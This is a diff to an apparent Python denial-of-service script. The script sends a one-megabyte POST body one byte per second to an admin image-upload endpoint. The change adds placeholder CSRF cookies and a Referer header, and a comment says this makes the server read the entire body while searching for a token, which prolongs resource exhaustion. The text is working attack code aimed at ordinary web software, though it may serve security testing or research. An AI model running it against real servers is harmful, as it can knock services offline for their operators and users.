@@ -31,9 +31,13 @@ class Paths:
 
 def post_slowly(target: Target, source: str, stop: threading.Event, _paths: Paths) -> None:
     """Send a body of one megabyte, one byte a second."""
-    form = "application/x-www-form-urlencoded"
-    line = "POST /admin/images/multiple/add/"
-    head = request_head(target, line, Content_Type=form, Content_Length=_BODY_BYTES)
+    # With such a cookie and without a token, the whole body is read to look for one.
+    token = "a" * 32
+    head = request_head(
+        target, "POST /admin/images/multiple/add/",
+        Content_Type="application/x-www-form-urlencoded", Content_Length=_BODY_BYTES,
+        Cookie=f"csrftoken={token}; __Host-csrftoken={token}", Referer=f"{target.base}/admin/",
+    )  # fmt: skip
     with target.connect(source) as connection:
         connection.sendall(head)
         while not stop.wait(1):
